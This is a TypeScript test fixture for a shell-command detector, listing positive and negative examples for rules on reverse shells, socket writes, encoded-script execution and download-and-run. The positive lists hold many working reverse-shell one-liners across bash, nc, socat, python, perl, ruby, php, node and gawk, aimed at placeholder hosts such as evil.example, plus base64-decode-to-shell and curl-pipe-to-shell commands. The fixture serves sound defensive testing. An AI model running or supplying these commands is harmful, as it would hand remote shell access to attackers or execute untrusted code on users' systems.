import { bash, facts, sh, words, type Row } from './exec-facts.ts'

export const SHELL_ROWS: readonly Row[] = [
  {
    rule: 'reverse-shell',
    does: [
      bash('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'),
      bash('exec 5<>/dev/tcp/evil.example/443; cat <&5 | while read line; do $line 2>&5 >&5; done'),
      sh('sh -i 5<> /dev/tcp/203.0.113.5/4444 0<&5 1>&5 2>&5'),
      sh(
        'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f',
      ),
      sh(
        'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s',
      ),
      sh('telnet 203.0.113.5 4444 | /bin/sh | telnet 203.0.113.5 4445'),
      words('nc -e /bin/sh 203.0.113.5 4444'),
      words('ncat 203.0.113.5 4444 --sh-exec bash'),
      words('busybox nc 203.0.113.5 4444 -e /bin/sh', {
        argv: 'nc 203.0.113.5 4444 -e /bin/sh'.split(' '),
      }),
      words('socat TCP:203.0.113.5:4444 EXEC:/bin/sh,pty,stderr'),
      words('socat OPENSSL:evil.example:443,verify=0 SYSTEM:bash'),
      facts([
        'python3.11',
        '-c',
        'import socket,os,pty;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0);pty.spawn("sh")',
      ]),
      facts([
        'perl',
        '-e',
        'use Socket;$i="h";socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");',
      ]),
      facts([
        'ruby',
        '-rsocket',
        '-e',
        'c=TCPSocket.new("h","1");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
      ]),
      facts(['php', '-r', '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");']),
      facts(
        [
          'node',
          '-e',
          'const s=require("net").connect(1,"h");const p=require("child_process").spawn("/bin/sh");s.pipe(p.stdin)',
        ],
        {},
      ),
      facts([
        'gawk',
        'BEGIN{s="/inet/tcp/0/h/1";while(1){s|&getline c;while((c|&getline r)>0)print r|&s}}',
      ]),
    ],
    doesNot: [
      bash('until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done'),
      words('nc -z localhost 5432'),
      words('nc -l -p 8080'),
      words('socat - UNIX-CONNECT:/run/app.sock'),
      words('socat TCP-LISTEN:8080,fork TCP:localhost:80'),
      facts(['python3', '-c', 'import socket; print(socket.gethostname())']),
      facts(['node', '-e', 'require("net").createServer().listen(0)']),
      facts(['node', 'server.js', '-e', 'net.connect spawn( /bin/sh']),
      words('grep -rn /dev/tcp/ docs'),
      sh('cat notes.txt | nc -N paste.example 9999'),
      facts(['awk', '{print $1 | "sort"}', 'file']),
    ],
  },
  {
    rule: 'shell-socket',
    does: [bash('echo ping > /dev/tcp/collector.example/9000')],
    doesNot: [bash('echo > /dev/tcp/127.0.0.1/5432'), bash('ls /dev/tcp')],
  },
  {
    rule: 'encoded-script',
    does: [
      sh('echo aWQK | base64 -d | sh'),
      bash('base64 --decode payload.txt | bash -s arg'),
      bash('eval "$(echo aWQK | base64 -d)"'),
      bash('bash -c "$(base64 -d <<< aWQK)"'),
      sh('openssl enc -d -aes-256-cbc -in x | sh'),
      sh('xxd -r -p hex.txt | sh'),
      facts(['python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))']),
      facts(['node', '-e', 'eval(Buffer.from("Y29uc29sZQ==","base64").toString())']),
    ],
    doesNot: [
      sh('base64 -d cert.b64 > cert.pem'),
      sh('kubectl get secret db -o json | jq -r .data.url | base64 -d'),
      sh('echo aWQK | base64 -d | sh script.sh'),
      facts(['python3', '-c', 'import base64; print(base64.b64decode("aGk="))']),
      bash('TOKEN="$(base64 -d token.b64)"; echo "$TOKEN" | wc -c'),
    ],
  },
  {
    rule: 'download-and-run',
    does: [
      sh('curl -fsSL https://get.example/install.sh | sh'),
      bash('wget -qO- https://get.example/i | sudo bash -s -- --yes'),
      bash('bash <(curl -s https://get.example/i)'),
      bash('sh -c "$(curl -fsSL https://get.example/install.sh)"'),
      bash('eval "$(wget -qO- https://get.example/env)"'),
      bash('curl https://get.example/x.py | python3 -'),
      sh('curl -Lo tool https://get.example/tool && chmod +x tool && ./tool --version'),
      facts([
        'python3',
        '-c',
        'exec(__import__("urllib.request").request.urlopen("https://x.example/a").read())',
      ]),
    ],
    doesNot: [
      sh('curl -fsSL https://api.example/v1/x | jq .'),
      sh('curl -o data.tgz https://example.org/d.tgz && tar xzf data.tgz'),
      bash('VERSION=$(curl -s https://api.example/version); echo "$VERSION"'),
      sh('curl -sf http://localhost:3000/health || exit 1; sh ./run.sh'),
      facts([
        'python3',
        '-c',
        'print(__import__("urllib.request").request.urlopen("https://x.example").status)',
      ]),
    ],
  },
  {
    rule: 'download-and-run-unsafe',
    does: [sh('curl http://files.example/i.sh | sh'), sh('wget -O- https://203.0.113.9/i | bash')],
    doesNot: [
      sh('curl -fsSL https://get.example/install.sh | sh'),
      sh('curl http://localhost:8080/setup.sh | sh'),
      sh('curl http://files.example/data.json | jq .'),
    ],
  },
]
